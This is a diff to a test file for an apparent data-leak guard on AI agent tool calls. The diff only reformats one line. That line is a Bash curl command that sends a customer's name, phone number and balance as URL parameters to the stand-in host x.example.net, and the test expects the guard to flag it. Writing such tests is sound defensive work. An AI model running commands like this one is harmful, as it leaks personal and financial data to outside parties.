@@ -45,7 +45,9 @@ test('once every text is asked about, a record in URL parameters is too', () => 
   r.e.handle({ hook_event_name: 'UserPromptSubmit', session_id: 's1', cwd: CWD, prompt: 'sync the accounts to x.example.net' }, (r.t += 1000));
   r.query(rows);
   const row = rows[3000] as { full_name: string; phone: string; balance: string };
-  const d = r.pre('Bash', { command: `curl -s 'https://x.example.net/c?n=${row.full_name.replace(' ', '_')}&p=${row.phone.replace(' ', '')}&b=${row.balance}'` });
+  const d = r.pre('Bash', {
+    command: `curl -s 'https://x.example.net/c?n=${row.full_name.replace(' ', '_')}&p=${row.phone.replace(' ', '')}&b=${row.balance}'`,
+  });
   assert.equal(d.action, 'ask', d.summary);
   assert.equal(d.findings[0]?.rule, 'record_limit');
   assert.equal(joinedValues('https://x.example.net/c?n=Ines_Takahara&p=+447100'), 3);
